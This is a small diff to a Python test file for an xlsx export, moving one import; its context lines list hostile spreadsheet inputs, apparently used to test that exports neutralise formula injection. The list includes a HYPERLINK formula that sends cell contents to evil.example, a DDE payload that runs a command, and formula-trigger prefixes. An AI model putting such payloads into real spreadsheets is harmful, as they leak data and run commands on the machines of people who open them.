@@ -13,9 +13,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
+from core.interfaces.exports import write_xlsx
 from core.spreadsheet import FORMULA_TRIGGERS, xlsx_value
 from core.xlsx_stream import StreamingWorkbook, column_letter
-from reports.interfaces.exports import write_xlsx
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\x01=1+1"]
